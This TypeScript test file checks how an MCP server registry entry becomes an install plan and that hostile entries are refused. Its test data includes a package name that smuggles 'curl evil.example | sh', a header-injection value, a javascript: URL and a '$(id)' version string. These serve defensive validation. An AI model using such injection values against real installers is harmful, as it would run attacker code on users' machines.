import { describe, expect, it } from 'vitest'
import { EntryProblem } from '@shared/discovery/entryChecks'
import { bundleOf, MissingInputs, planInstall, serverFromEntry, shownTarget } from '@shared/discovery/installPlan'
import { ServerJsonSchema, type ServerJson } from '@shared/discovery/serverJson'
import { anyKindFields, McpServerSchema } from '@shared/mcp/server'
import { bidiName, extensionOnly, fetchOci, javascriptUrl, notesRemote, shellIdentifier, timePypi, weatherNpm } from '../../fixtures/discovery/entries'

const serverJson = (entry: { server: unknown }): ServerJson => ServerJsonSchema.parse(entry.server)

function refusal(run: () => unknown): EntryProblem {
  try {
    run()
  } catch (error) {
    if (error instanceof EntryProblem) return error
    throw error
  }
  throw new Error('expected the entry to be refused')
}

describe('a registry entry becomes a server', () => {
  it('npm: npx -y with the pinned package between its runtime and package arguments; the secret is asked for', () => {
    const plan = planInstall(serverJson(weatherNpm))
    expect(plan).toMatchObject({ runs: 'npx', namespace: 'io.github.example', repositoryUrl: 'https://git.example.com/example/weather' })
    expect(plan.target).toBe('npx -y --prefer-offline @example/weather-mcp@1.2.0 --log-level info <city>')
    expect(plan.inputs.map((i) => [i.key, i.where, i.required, i.secret])).toEqual([
      ['WEATHER_API_KEY', 'env', true, true],
      ['WEATHER_UNITS', 'env', false, false],
      ['city', 'argument', false, false]
    ])
    const server = McpServerSchema.parse(serverFromEntry(serverJson(weatherNpm), { WEATHER_API_KEY: 'sk-weather-123456' }, 'id-1'))
    expect(server).toMatchObject({
      name: 'io.github.example/weather',
      ui: { displayName: 'Weather' },
      type: 'stdio',
      command: 'npx',
      args: ['-y', '--prefer-offline', '@example/weather-mcp@1.2.0', '--log-level', 'info'],
      env: { WEATHER_API_KEY: 'sk-weather-123456', WEATHER_UNITS: 'metric' },
      notSecret: ['WEATHER_UNITS'],
      isActive: true,
      installSource: 'registry'
    })
  })

  it('a secret argument is kept in env (sealed like one) behind a placeholder, and shown only by its name', () => {
    const entry = serverJson({
      server: {
        name: 'io.github.example/db',
        version: '2.0.0',
        packages: [
          {
            registryType: 'npm',
            identifier: 'db-mcp',
            version: '2.0.0',
            environmentVariables: [{ name: 'MCP_SECRET_ARG_PASSWORD', description: 'a variable of the entry by that very name' }],
            packageArguments: [
              { type: 'named', name: '--password', isRequired: true, isSecret: true },
              { type: 'named', name: '--dsn', value: 'postgres://app:{pw}@db', variables: { pw: { isSecret: true } } }
            ]
          }
        ]
      }
    })
    const server = anyKindFields(serverFromEntry(entry, { password: 'hunter2-secret', pw: 'dsn-secret', MCP_SECRET_ARG_PASSWORD: 'theirs' }, 'id'))
    expect(server.args).toEqual(['-y', 'db-mcp@2.0.0', '--password', '${env:MCP_SECRET_ARG_PASSWORD_2}', '--dsn', '${env:MCP_SECRET_ARG_DSN}'])
    expect(server.env).toEqual({ MCP_SECRET_ARG_PASSWORD: 'theirs', MCP_SECRET_ARG_PASSWORD_2: 'hunter2-secret', MCP_SECRET_ARG_DSN: 'postgres://app:dsn-secret@db' })
    expect(server.notSecret).toEqual(['MCP_SECRET_ARG_PASSWORD'])
    expect(shownTarget(entry, { password: 'hunter2-secret', pw: 'dsn-secret' })).toBe('npx -y db-mcp@2.0.0 --password <password> --dsn postgres://app:<pw>@db')
  })

  it('a missing required input is refused by name', () => {
    const error = (() => {
      try {
        serverFromEntry(serverJson(weatherNpm), {}, 'id-1')
      } catch (e) {
        return e
      }
    })()
    expect(error).toBeInstanceOf(MissingInputs)
    expect((error as MissingInputs).keys).toEqual(['WEATHER_API_KEY'])
    expect((error as Error).message).toContain('"WEATHER_API_KEY"')
  })

  it('PyPI: uvx with name==version; an optional argument left out is not passed', () => {
    expect(planInstall(serverJson(timePypi)).target).toBe('uvx mcp-server-time==2025.1.0 --local-timezone <local-timezone>')
    expect(anyKindFields(serverFromEntry(serverJson(timePypi), {}, 'id')).args).toEqual(['mcp-server-time==2025.1.0'])
    expect(anyKindFields(serverFromEntry(serverJson(timePypi), { 'local-timezone': 'Asia/Shanghai' }, 'id')).args).toEqual(['mcp-server-time==2025.1.0', '--local-timezone', 'Asia/Shanghai'])
  })

  it('OCI: docker run -i --rm with the image pinned to its tag and its variables passed in by name', () => {
    const server = serverFromEntry(serverJson(fetchOci), {}, 'id')
    expect([anyKindFields(server).command, ...anyKindFields(server).args!].join(' ')).toBe('docker run -i --rm -e FETCH_USER_AGENT images.example.com/example/fetch:0.3.1')
    expect(anyKindFields(server).env).toEqual({ FETCH_USER_AGENT: 'MCP-Fetch' })
  })

  it('a remote: Streamable HTTP with its header filled from the asked-for token', () => {
    const plan = planInstall(serverJson(notesRemote))
    expect(plan).toMatchObject({ runs: 'remote', target: 'Streamable HTTP https://notes.example.com/mcp' })
    expect(plan.inputs).toEqual([expect.objectContaining({ key: 'token', where: 'variable', required: true, secret: true })])
    const server = serverFromEntry(serverJson(notesRemote), { token: 'tok-abcdef123' }, 'id')
    expect(server).toMatchObject({ type: 'streamableHttp', baseUrl: 'https://notes.example.com/mcp', headers: { Authorization: 'Bearer tok-abcdef123' } })
    expect(server.notSecret).toBeUndefined()
  })

  it('a value with a line break is refused: it would change the header or argument it goes into', () => {
    expect(refusal(() => serverFromEntry(serverJson(notesRemote), { token: 'a\r\nX-Evil: 1' }, 'id')).field).toBe('input "token"')
  })

  it('hostile entries are refused whole, the field named', () => {
    expect(refusal(() => planInstall(serverJson(shellIdentifier))).message).toMatch(/^packages\[0\]\.identifier "x; curl evil.example \| sh" is not a npm package name/)
    expect(refusal(() => planInstall(serverJson(javascriptUrl))).message).toBe('remotes[0].url must be an http(s) URL, not javascript:')
    expect(refusal(() => planInstall(serverJson(bidiName))).field).toBe('name')
  })

  it('an entry that only ships a desktop extension is its bundle, its settings asked once it is downloaded', () => {
    expect(planInstall(serverJson(extensionOnly))).toMatchObject({ runs: 'mcpb', target: 'https://downloads.example.com/ext-1.0.0.mcpb', inputs: [] })
    expect(bundleOf(serverJson(extensionOnly))).toEqual({ url: 'https://downloads.example.com/ext-1.0.0.mcpb', sha256: 'a'.repeat(64) })
    // it is never turned into a command line
    expect(refusal(() => serverFromEntry(serverJson(extensionOnly), {}, 'id')).message).toBe('packages[0] is a desktop extension bundle: it is installed through the extension installer')
    const bundle = (identifier: string, fileSha256?: string) => serverJson({ server: { ...extensionOnly.server, packages: [{ registryType: 'mcpb', identifier, fileSha256 }] } })
    expect(refusal(() => planInstall(bundle('http://downloads.example.com/x.mcpb', 'a'.repeat(64)))).field).toBe('packages[0].identifier')
    expect(refusal(() => planInstall(bundle('https://downloads.example.com/x.mcpb', 'not-a-hash'))).field).toBe('packages[0].fileSha256')
  })

  it('an unpinned version is refused', () => {
    const latest = { ...serverJson(timePypi), packages: [{ ...serverJson(timePypi).packages![0], version: 'latest' }] }
    expect(refusal(() => planInstall(latest)).field).toBe('packages[0].version')
    const range = { ...serverJson(timePypi), packages: [{ ...serverJson(timePypi).packages![0], version: '>=1 $(id)' }] }
    expect(refusal(() => planInstall(range)).field).toBe('packages[0].version')
  })
})
